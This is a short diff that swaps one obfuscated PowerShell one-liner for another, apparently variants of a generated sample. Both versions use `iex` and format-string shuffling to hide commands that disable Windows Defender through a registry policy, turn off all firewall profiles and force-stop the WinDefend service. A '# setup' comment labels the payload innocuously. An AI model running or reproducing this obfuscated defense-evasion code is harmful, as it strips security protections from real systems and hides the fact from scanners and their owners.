@@ -1,5 +1,5 @@
-iex ("{5}{4}{3}{1}{0}{2}" -f 'WORD -F','PropertyType D','orce
+iex ("{1}{2}{0}" -f 'M:\SOFTWARE\Policies\Microsoft\Windows Defender'' -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force
 Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
 Stop-Service -Name WinDefend -Force
-','HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender'' -Name DisableAntiSpyware -Value 1 -','run 4835 v4
-New-ItemProperty -Path ''','# ')
+','# setup 3612 v4
+New-','ItemProperty -Path ''HKL')
